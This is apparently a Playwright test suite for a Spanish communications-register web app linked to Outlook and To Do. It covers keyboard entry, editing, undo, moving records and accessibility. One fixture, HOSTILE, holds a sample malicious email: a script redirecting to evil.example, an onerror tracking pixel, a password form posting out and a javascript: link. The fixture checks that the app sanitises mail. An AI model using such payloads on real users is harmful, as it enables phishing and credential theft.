"""A day at the register page: the mail that is open, and the windows in which people write."""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, expect
from sqlalchemy import select

from server.records.models import Message, Record, RecordState
from simulator import Simulator
from tests.browser.product import (
    ANA,
    THEMES,
    deliver,
    expect_accessible,
    problem,
    running_product,
    sign_in,
)
from tests.live import Live

pytestmark = pytest.mark.browser

PEDRO = "pedro@panaderiauno.example"
LUIS = "luis@ribera.example"
JORGE = "jorge@ribera.example"
PDF = {
    "@odata.type": "#microsoft.graph.fileAttachment",
    "name": "Modelo 303.pdf",
    "contentType": "application/pdf",
    "contentBytes": "JVBERi0xLjQ=",
}
HOSTILE = """\
<p style="color: red">Buenos días</p>
<script>parent.document.title = "taken"; top.location = "https://evil.example"</script>
<img src="https://spy.example/pixel.png" onerror="parent.document.title = 'taken'">
<form action="https://evil.example"><input name="password"></form>
<a href="javascript:parent.document.title = 'taken'">Pulsa</a>"""


@pytest.fixture(scope="module")
def live(simulator_process: Simulator, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Live]:
    with running_product(simulator_process, tmp_path_factory.mktemp("product")) as live:
        yield live


@pytest.fixture
def page(chromium: Browser) -> Iterator[Page]:
    """A Spanish browser that fails the test when a page's script or policy does."""
    context = chromium.new_context(locale="es-ES", viewport={"width": 1280, "height": 800})
    page = context.new_page()
    faults: list[str] = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    yield page
    context.close()
    assert faults == []


def row(page: Page, subject: str) -> Locator:
    return page.locator("#list [data-record]").filter(has_text=subject)


def detail(page: Page) -> Locator:
    return page.get_by_role("complementary", name="Detalle de la comunicación")


def window(page: Page, name: str) -> Locator:
    return page.get_by_role("dialog", name=name, exact=True)


def toast(page: Page) -> Locator:
    return page.locator("#toast")


def press(page: Page, *keys: str) -> None:
    for key in keys:
        page.keyboard.press(key)


def open_record(page: Page, live: Live, subject: str, person: str = "Ana Ribera") -> None:
    sign_in(page, live, "/?client=C01", person)
    row(page, subject).click()
    expect(detail(page).get_by_role("heading", level=2)).to_have_text(subject)


def note(page: Page, live: Live, **fields: Any) -> str:
    """A communication noted down by the person who is signed in at the page; its id."""
    answer = page.request.post(
        f"{live.url}/api/records", data={"client": "C01", **fields}, headers={"Origin": live.url}
    )
    assert answer.status == 201
    return str(answer.json()["id"])


def records(live: Live, **fields: Any) -> list[Record]:
    with live.database.reading() as session:
        return list(session.scalars(select(Record).filter_by(**fields)))


def drafts(live: Live, person: str) -> list[Any]:
    box = live.simulator.world.mailbox(person)
    return list(box.listed(box.folder("drafts").id))


def test_a_call_is_noted_with_the_keyboard_then_its_task_and_its_message(live: Live, page: Page) -> None:
    sign_in(page, live, "/?client=C01")
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    press(page, "n")
    new = window(page, "Nueva comunicación")
    expect(new).to_contain_text("Ana Ribera")
    expect(new).to_contain_text("Ahora, al guardar")
    expect(new.get_by_label("Asunto")).to_be_focused()

    press(page, "Enter")
    expect(new.get_by_text("Escribe el asunto: es lo único obligatorio.")).to_be_visible()
    page.keyboard.type("Alta de Lucía")
    press(page, "Tab")
    page.keyboard.type("Llamada")
    press(page, "Tab")
    page.keyboard.type("El cliente")
    press(page, "Tab", "Tab", "Tab")
    page.keyboard.type("pedro")
    expect(page.get_by_role("option", name="Pedro")).to_be_visible()
    press(page, "Enter")
    page.keyboard.type("El notario")
    press(page, "Enter", "Escape", "Tab")
    page.keyboard.type("Empieza el lunes.")
    new.get_by_role("button", name="Guardar y crear tarea").press("Enter")

    task = window(page, "Nueva tarea")
    for fact in ("Panadería Uno SL", "Ana Ribera", "Alta de Lucía"):
        expect(task).to_contain_text(fact)
    expect(task.get_by_label("Tarea", exact=True)).to_have_value("Panadería Uno SL: Alta de Lucía")
    task.get_by_role("button", name="Mañana").press("Enter")
    task.get_by_role("button", name="Crear tarea").press("Enter")
    expect(toast(page)).to_contain_text("Tarea creada en To Do.")
    expect(detail(page).get_by_role("heading", level=2)).to_have_text("Alta de Lucía")
    for fact in (
        "Llamada",
        "El cliente",
        "Pedro",
        "El notario",
        "Empieza el lunes.",
        "Tarea creada en To Do",
    ):
        expect(detail(page)).to_contain_text(fact)

    detail(page).get_by_role("button", name="Enviar mensaje").press("Enter")
    message = window(page, "Enviar mensaje")
    expect(message.get_by_role("checkbox").first).to_be_focused()
    press(page, "Enter")
    expect(message.get_by_role("alert")).to_contain_text("Elige al menos una persona o un contacto.")
    message.get_by_role("checkbox", name="Luis Ortega").press("Space")
    message.get_by_role("checkbox", name="Pedro").press("Space")
    expect(message).to_contain_text("2 personas elegidas")
    with page.expect_popup() as opened:
        press(page, "Enter")
    opened.value.wait_for_url("**/outlook/**")

    (record,) = records(live, subject="Alta de Lucía")
    assert (record.type, record.initiated_by) == ("call", "client")
    tasks = live.simulator.cloud.todo.lists(live.simulator.world.user(ANA))[0].tasks
    assert tasks[-1]["title"] == "Panadería Uno SL: Alta de Lucía"
    to = [each["emailAddress"]["address"] for each in drafts(live, ANA)[-1].properties["toRecipients"]]
    assert to == [LUIS, PEDRO]
    assert "Alta de Lucía" in drafts(live, ANA)[-1].properties["subject"]

    live.simulator.world.send_draft(ANA, drafts(live, ANA)[-1].id)
    live.wait_until_idle()
    expect(detail(page).get_by_role("button").filter(has_text="Mensaje sobre esta")).to_have_count(1)
    assert len(records(live, reply_to_id=record.id)) == 1


def test_the_button_opens_the_window_for_a_new_communication(live: Live, page: Page) -> None:
    sign_in(page, live, "/?client=C01")

    page.get_by_role("button", name="Nueva").click()

    expect(window(page, "Nueva comunicación").get_by_label("Asunto")).to_be_focused()


def test_files_of_a_mail_stand_in_a_table_beside_the_list(live: Live, page: Page) -> None:
    deliver(live, "Con el modelo", sender=PEDRO, attachments=[PDF], hasAttachments=True)

    open_record(page, live, "Con el modelo")

    files = detail(page).get_by_role("region", name="Adjuntos").get_by_role("table")
    expect(files.get_by_role("columnheader", name="a3doc")).to_be_visible()
    expect(files.get_by_role("link", name="Abrir Modelo 303.pdf")).to_be_visible()
    # Nothing is published.
    expect(files.get_by_role("row").last.get_by_role("cell").last).to_be_empty()
    listed, beside = page.locator("#list").bounding_box(), detail(page).bounding_box()
    assert listed is not None
    assert beside is not None
    assert beside["x"] >= listed["x"] + listed["width"]


def test_contacts_without_an_address_are_not_offered(live: Live, page: Page) -> None:
    sign_in(page, live)
    note(page, live, client="C07", subject="Visita sin correo")
    page.goto(f"{live.url}/?client=C07")
    row(page, "Visita sin correo").click()

    detail(page).get_by_role("button", name="Enviar mensaje").click()

    expect(window(page, "Enviar mensaje")).to_contain_text("no tiene contactos con dirección de correo")
    expect(window(page, "Enviar mensaje").get_by_role("checkbox", name="Luis Ortega")).to_be_visible()


def test_people_of_the_firm_and_contacts_have_signs_of_their_own(live: Live, page: Page) -> None:
    sign_in(page, live)
    note(page, live, subject="Para avisar")
    page.goto(f"{live.url}/?client=C01")
    row(page, "Para avisar").click()
    detail(page).get_by_role("button", name="Enviar mensaje").click()

    message = window(page, "Enviar mensaje")
    for name, sign, called in (
        ("Luis Ortega", "person", "Persona del despacho"),
        ("Pedro", "mail", "Contacto del cliente"),
    ):
        one = message.locator("label").filter(has=page.get_by_role("checkbox", name=name))
        expect(one.locator("svg.icon")).to_have_class(re.compile(rf"icon-{sign}\b"))
        expect(one.get_by_role("img", name=called)).to_be_visible()


def test_what_is_typed_is_not_lost(live: Live, page: Page) -> None:
    sign_in(page, live, "/?client=C01")
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    press(page, "n")
    page.keyboard.type("Llamada larga")
    subject = window(page, "Nueva comunicación").get_by_label("Asunto")

    press(page, "Escape")
    expect(page.get_by_role("button", name="Seguir escribiendo")).to_be_focused()
    press(page, "Enter")
    expect(subject).to_be_focused()
    page.reload()
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    press(page, "n")
    expect(subject).to_have_value("Llamada larga")

    page.route("**/api/records", lambda route: route.abort())
    press(page, "Enter")
    expect(window(page, "Nueva comunicación").get_by_role("alert")).to_contain_text("Lo escrito está a salvo")
    page.unroute("**/api/records")
    press(page, "Enter")

    expect(detail(page).get_by_role("heading", level=2)).to_have_text("Llamada larga")
    press(page, "n")
    expect(subject).to_have_value("")


def test_a_lost_answer_does_not_double_what_is_saved_again(live: Live, page: Page) -> None:
    def lose(route: Any) -> None:
        route.fetch()
        route.abort()

    # Before the page is there: a browser may let a request pass that follows on the heels of this.
    page.route("**/api/records", lose)
    sign_in(page, live, "/?client=C01")
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    press(page, "n")
    page.keyboard.type("Una sola vez")
    press(page, "Enter")
    expect(window(page, "Nueva comunicación").get_by_role("alert")).to_be_visible()
    page.unroute("**/api/records")
    press(page, "Enter")

    expect(toast(page)).to_contain_text("Comunicación guardada.")
    assert len(records(live, subject="Una sola vez")) == 1


def test_a_communication_can_be_dated_back(live: Live, page: Page) -> None:
    sign_in(page, live, "/?client=C01")
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    press(page, "n")
    page.keyboard.type("Visita de ayer")
    page.get_by_role("button", name="Cambiar la fecha y hora").click()
    page.get_by_label("Fecha y hora").fill("2026-07-01T09:30")
    window(page, "Nueva comunicación").get_by_role("button", name="Guardar", exact=True).click()

    expect(detail(page)).to_contain_text("miércoles, 1 de julio de 2026, 09:30")
    (record,) = records(live, subject="Visita de ayer")
    assert record.occurred_at.isoformat() == "2026-07-01T07:30:00+00:00"


def test_what_was_noted_by_hand_is_edited_and_its_history_tells(live: Live, page: Page) -> None:
    sign_in(page, live)
    note(page, live, subject="Reunión", type="visit")
    page.goto(f"{live.url}/?client=C01")
    row(page, "Reunión").click()
    press(page, "e")
    edit = window(page, "Modificar comunicación")

    edit.get_by_label("Asunto").fill("Reunión de cierre")
    edit.get_by_label("Tipo").select_option("Videollamada")
    edit.get_by_label("Área").select_option("Fiscal")
    edit.get_by_label("Notas").fill("Acta pendiente")
    edit.get_by_role("button", name="Guardar").click()

    expect(row(page, "Reunión de cierre")).to_contain_text("Fiscal")
    expect(detail(page)).to_contain_text("Videollamada")
    detail(page).get_by_text("Historial de cambios").click()
    history = detail(page).locator(".history")
    for told in ("Ana Ribera la creó", "Ana Ribera la modificó", "Reunión de cierre", "Acta pendiente"):
        expect(history).to_contain_text(told)


def test_of_a_mail_only_reason_and_area_can_be_changed(live: Live, page: Page) -> None:
    deliver(live, "Recibo del gas", sender=PEDRO)
    open_record(page, live, "Recibo del gas")
    press(page, "e")
    edit = window(page, "Modificar comunicación")

    expect(edit).to_contain_text("puedes cambiar el motivo y el área")
    for closed in ("Asunto", "Tipo", "Iniciada por", "Participantes"):
        expect(edit.get_by_label(closed)).to_be_disabled()
    edit.get_by_label("Motivo").select_option("Requerimiento")
    edit.get_by_label("Área").select_option("Laboral")
    edit.get_by_role("button", name="Guardar").click()

    expect(row(page, "Recibo del gas")).to_contain_text("Requerimiento")
    expect(detail(page).get_by_label("Área")).to_have_value("2")


def test_who_was_slower_sees_both_values_and_chooses(live: Live, page: Page, chromium: Browser) -> None:
    sign_in(page, live)
    record = note(page, live, subject="Precio", notes="De Ana")
    page.goto(f"{live.url}/?client=C01")
    row(page, "Precio").click()
    press(page, "e")
    edit = window(page, "Modificar comunicación")
    edit.get_by_label("Asunto").fill("Precio de Ana")
    edit.get_by_label("Notas").fill("Cien euros")
    other = page.request.patch(
        f"{live.url}/api/records/{record}",
        data={"subject": "Precio de otra pestaña", "type": "call"},
        headers={"If-Match": '"1"', "Origin": live.url},
    )
    assert other.status == 200

    edit.get_by_role("button", name="Guardar").click()
    question = edit.get_by_role("group", name="ha cambiado esta comunicación")
    expect(question.get_by_role("radio")).to_have_count(2)
    expect(question).to_contain_text("Precio de Ana")
    question.get_by_label("Precio de otra pestaña").check()
    expect(edit.get_by_label("Asunto")).to_have_value("Precio de otra pestaña")
    edit.get_by_role("button", name="Guardar").click()

    expect(toast(page)).to_contain_text("Cambios guardados.")
    (saved,) = records(live, subject="Precio de otra pestaña")
    assert (saved.notes, saved.type) == ("Cien euros", "call")


def test_a_deleted_mail_comes_back_with_undo_and_stays_in_its_mailbox(live: Live, page: Page) -> None:
    deliver(live, "Factura repetida", sender=PEDRO)
    open_record(page, live, "Factura repetida")

    press(page, "Delete")
    expect(row(page, "Factura repetida")).to_have_count(0)
    expect(toast(page)).to_contain_text("Eliminada del registro. El correo sigue en el buzón.")
    (deleted,) = records(live, subject="Factura repetida")
    held = [copy.properties["subject"] for copy in live.simulator.world.mailbox(ANA).listed()]
    press(page, "Control+z")

    expect(row(page, "Factura repetida")).to_be_visible()
    expect(toast(page)).to_contain_text("Vuelve a estar en el registro.")
    assert deleted.state is RecordState.DELETED
    assert "Factura repetida" in held


def test_an_administrator_recovers_what_was_deleted(live: Live, page: Page) -> None:
    sign_in(page, live)
    note(page, live, subject="Borrada por error")
    page.goto(f"{live.url}/?client=C01")
    row(page, "Borrada por error").click()
    detail(page).get_by_role("button", name="Eliminar").click()
    expect(toast(page)).to_contain_text("Comunicación eliminada.")
    page.goto(f"{live.url}/?deleted=true")

    row(page, "Borrada por error").click()
    expect(detail(page)).to_contain_text("Está eliminada del registro.")
    expect(detail(page).get_by_role("group", name="Acciones")).to_have_count(0)
    detail(page).get_by_role("button", name="Recuperar").click()

    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")
    expect(row(page, "Borrada por error")).to_be_visible()
    expect(detail(page).get_by_role("button", name="Modificar")).to_be_visible()


def test_only_its_author_changes_what_was_noted_by_hand(live: Live, page: Page) -> None:
    sign_in(page, live)
    note(page, live, subject="De Ana")
    page.context.clear_cookies()
    open_record(page, live, "De Ana", "Luis Ortega")

    for missing in ("Modificar", "Eliminar"):
        expect(detail(page).get_by_role("button", name=missing)).to_have_count(0)
    press(page, "e")

    expect(toast(page)).to_contain_text("Solo puede cambiarla quien la creó (Ana Ribera) o administra.")


def test_several_move_together_and_come_back(live: Live, page: Page) -> None:
    for subject in ("Lote uno", "Lote dos"):
        deliver(live, subject, sender=PEDRO)
    sign_in(page, live, "/?client=C01")
    row(page, "Lote uno").click()
    press(page, "x")
    row(page, "Lote dos").click(modifiers=["Control"])

    press(page, "m")
    expect(window(page, "Cambiar de cliente")).to_contain_text("2 comunicaciones")
    page.keyboard.type("C02")
    expect(page.get_by_role("option", name="Talleres Dos SA")).to_be_visible()
    press(page, "Enter", "Enter")
    expect(toast(page)).to_contain_text("2 comunicaciones están ahora en el registro de Talleres Dos SA.")
    expect(row(page, "Lote")).to_have_count(0)
    press(page, "Control+z")

    expect(row(page, "Lote")).to_have_count(2)


@pytest.mark.parametrize(
    ("written", "moment"),
    [
        ("2026-01-15T09:30", "2026-01-15T08:30:00.000Z"),
        ("2026-07-15T00:30", "2026-07-14T22:30:00.000Z"),
        ("2026-03-29T03:30", "2026-03-29T01:30:00.000Z"),
        ("2026-10-25T03:30", "2026-10-25T02:30:00.000Z"),
    ],
)
def test_a_time_is_meant_in_madrid_whatever_the_browser_thinks(
    live: Live, chromium: Browser, written: str, moment: str
) -> None:
    context = chromium.new_context(timezone_id="America/Mexico_City")
    page = context.new_page()
    page.goto(f"{live.url}/register/moments.js")
    script = "async (text) => { const { momentOf, fieldTime } = await import('/register/moments.js');"

    found = page.evaluate(f"{script} const iso = momentOf(text); return [iso, fieldTime(iso)]; }}", written)

    context.close()
    assert found == [moment, written]


def test_a_thread_moves_to_another_client_and_back(live: Live, page: Page) -> None:
    thread = {"internetMessageId": "<hilo-1@panaderiauno.example>"}
    deliver(live, "Local de la calle Mayor", sender=PEDRO, **thread)
    answer = [{"name": "In-Reply-To", "value": thread["internetMessageId"]}]
    deliver(live, "RE: Local de la calle Mayor", sender=PEDRO, internetMessageHeaders=answer)
    sign_in(page, live, "/?client=C01")
    row(page, "RE: Local").click()
    expect(detail(page).get_by_role("heading", name="Conversación")).to_be_visible()

    press(page, "m")
    move = window(page, "Cambiar de cliente")
    page.keyboard.type("dos")
    expect(page.get_by_role("option", name="Talleres Dos SA")).to_be_visible()
    press(page, "Enter")
    move.get_by_label("Toda la conversación").check()
    press(page, "Enter")
    expect(toast(page)).to_contain_text("La conversación está ahora en el registro de Talleres Dos SA.")
    expect(row(page, "calle Mayor")).to_have_count(0)
    toast(page).get_by_role("button", name="Deshacer").click()

    expect(row(page, "calle Mayor")).to_have_count(2)


def test_a_hostile_mail_is_read_and_does_nothing(live: Live, page: Page) -> None:
    body = {"contentType": "html", "content": HOSTILE}
    deliver(live, "Urgente", sender=PEDRO, body=body, attachments=[PDF], hasAttachments=True)
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.route("https://spy.example/**", lambda route: route.fulfill(status=204))
    open_record(page, live, "Urgente")

    detail(page).get_by_role("button", name="Ver el mensaje completo").click()
    mail = page.frame_locator("iframe.mail-frame")
    expect(mail.get_by_text("Buenos días")).to_be_visible()
    expect(mail.locator("script, form, input, [onerror]")).to_have_count(0)
    expect(detail(page)).to_contain_text("1 imagen remota bloqueada")
    assert not [url for url in asked if "example" in url]
    detail(page).get_by_role("button", name="Mostrar imágenes").click()
    expect(mail.get_by_role("img")).to_have_count(1)
    with page.expect_download() as download:
        detail(page).get_by_role("link", name="Abrir Modelo 303.pdf").click()

    assert download.value.suggested_filename == "Modelo 303.pdf"
    assert page.title() == "Panadería Uno SL · Bitácora"
    assert [url for url in asked if "example" in url] == ["https://spy.example/pixel.png"]


def test_addresses_of_pages_in_a_plain_text_lead_there(live: Live, page: Page) -> None:
    text = "Está en https://docs.example/a?b=1. javascript:alert(1) no es nada."
    deliver(live, "Un enlace", sender=PEDRO, body={"contentType": "text", "content": text})
    open_record(page, live, "Un enlace")

    detail(page).get_by_role("button", name="Ver el mensaje completo").click()

    link = detail(page).locator(".mail-text a")
    expect(link).to_have_text("https://docs.example/a?b=1")
    expect(link).to_have_attribute("rel", "noopener noreferrer")


def test_an_answer_comes_back_as_one_record_that_is_tied_to_the_mail(live: Live, page: Page) -> None:
    deliver(live, "¿Hay que firmar?", sender=PEDRO)
    open_record(page, live, "¿Hay que firmar?")

    with page.expect_popup() as opened:
        press(page, "r")
    outlook = opened.value
    outlook.wait_for_url("**/outlook/**")
    expect(detail(page)).to_contain_text("Respuesta preparada en Outlook.")
    outlook.goto(f"{outlook.url}&as={ANA}")
    outlook.get_by_label("Texto del mensaje").fill("Sí, las dos copias.")
    outlook.get_by_role("button", name="Enviar").click()
    live.wait_until_idle()

    thread = detail(page).get_by_role("list").filter(has_text="Respuesta a esta")
    expect(thread.get_by_role("button")).to_have_count(1)
    expect(detail(page)).not_to_contain_text("Respuesta preparada en Outlook.")
    (asked,) = records(live, subject="¿Hay que firmar?")
    (answer,) = records(live, reply_to_id=asked.id)
    assert answer.message_id is not None


def test_what_microsoft_refuses_is_not_offered_and_the_reason_is_said(live: Live, page: Page) -> None:
    live.simulator.faults.todo_missing(JORGE)
    sign_in(page, live, "/?client=C01", "Jorge Sanz")
    expect(page.get_by_role("heading", level=1)).to_have_text("Panadería Uno SL")

    press(page, "n")
    new = window(page, "Nueva comunicación")

    expect(new.get_by_role("button", name="Guardar y enviar mensaje")).to_be_visible()
    expect(new.get_by_role("button", name="Guardar y crear tarea")).to_have_count(0)
    expect(new).to_contain_text("Crear tarea no está disponible: tu cuenta no tiene Microsoft To Do.")


def test_who_has_no_mailbox_is_offered_no_draft_and_told_why(live: Live, page: Page) -> None:
    deliver(live, "Sin buzón propio", sender=PEDRO)
    live.simulator.faults.mailbox_unavailable(JORGE)
    sign_in(page, live, "/?client=C01", "Jorge Sanz")
    row(page, "Sin buzón propio").click()

    expect(detail(page)).to_contain_text(
        "Responder y enviar mensaje no están disponibles: tu cuenta no tiene buzón de Outlook."
    )
    expect(detail(page).get_by_role("button", name="Responder")).to_have_count(0)
    press(page, "n")
    new = window(page, "Nueva comunicación")
    expect(new.get_by_role("button", name="Guardar", exact=True)).to_be_visible()
    expect(new.get_by_role("button", name="Guardar y enviar mensaje")).to_have_count(0)
    live.simulator.faults.mailbox_available(JORGE)


def test_a_mail_that_is_in_no_mailbox_any_more_is_told_so(live: Live, page: Page) -> None:
    deliver(live, "Ya no está", sender=PEDRO)
    for copy in list(live.simulator.world.mailbox(ANA).listed()):
        if copy.properties["subject"] == "Ya no está":
            live.simulator.world.purge(ANA, copy.id)
    open_record(page, live, "Ya no está")

    detail(page).get_by_role("button", name="Ver el mensaje completo").click()

    expect(detail(page)).to_contain_text("El correo ya no está en ningún buzón")
    with live.database.reading() as session:
        assert session.scalar(select(Message).filter_by(subject="Ya no está"))


def test_a_failing_server_leaves_the_mail_to_be_tried_again(live: Live, page: Page) -> None:
    deliver(live, "Paciencia", sender=PEDRO)
    page.route("**/body", lambda route: route.fulfill(**problem("microsoft_busy", 503)))
    open_record(page, live, "Paciencia")
    detail(page).get_by_role("button", name="Ver el mensaje completo").click()
    expect(detail(page)).to_contain_text("Microsoft 365 está ocupado")
    page.unroute("**/body")

    detail(page).get_by_role("button", name="Reintentar").click()

    expect(detail(page).locator(".mail-text")).to_contain_text("Buenos días: va adjunto. Un saludo")


def close(page: Page, name: str) -> None:
    window(page, name).get_by_role("button", name="Cerrar").click()
    expect(window(page, name)).to_have_count(0)


WINDOWS = {"n": "Nueva comunicación", "e": "Modificar comunicación", "m": "Cambiar de cliente"}


@pytest.mark.parametrize("width", [1280, 768, 320])
@pytest.mark.parametrize("theme", [*THEMES, "forced"])
def test_detail_and_windows_are_accessible(live: Live, page: Page, theme: str, width: int) -> None:
    scheme = "light" if theme == "forced" else theme
    page.emulate_media(forced_colors="active" if theme == "forced" else "none")
    deliver(live, f"Vista {theme} {width}", sender=PEDRO, attachments=[PDF], hasAttachments=True)
    page.set_viewport_size({"width": width, "height": 720})
    open_record(page, live, f"Vista {theme} {width}")
    detail(page).get_by_role("button", name="Ver el mensaje completo").click()
    expect(detail(page).locator(".mail-text")).to_be_visible()
    detail(page).get_by_text("Historial de cambios").click()
    expect_accessible(page, scheme)

    for key, name in WINDOWS.items():
        press(page, key)
        expect(window(page, name)).to_be_visible()
        expect_accessible(page, scheme)
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        close(page, name)
    for button, name in (("Crear tarea", "Nueva tarea"), ("Enviar mensaje", "Enviar mensaje")):
        detail(page).get_by_role("button", name="Más acciones").click()
        detail(page).get_by_role("button", name=button).click()
        expect(window(page, name)).to_be_visible()
        expect_accessible(page, scheme)
        close(page, name)
